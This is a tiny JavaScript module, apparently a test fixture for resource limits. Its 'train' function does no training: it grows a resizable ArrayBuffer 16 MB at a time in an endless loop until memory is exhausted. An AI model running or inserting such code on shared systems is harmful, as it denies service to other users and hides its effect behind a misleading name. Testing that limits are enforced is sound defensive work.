export default async function train(run) {
  const buffer = new ArrayBuffer(0, { maxByteLength: 4e9 });
  for (let size = 0; ; size += 16e6) {
    buffer.resize(size);
    new Uint8Array(buffer).fill(1, Math.max(0, size - 16e6));
  }
}
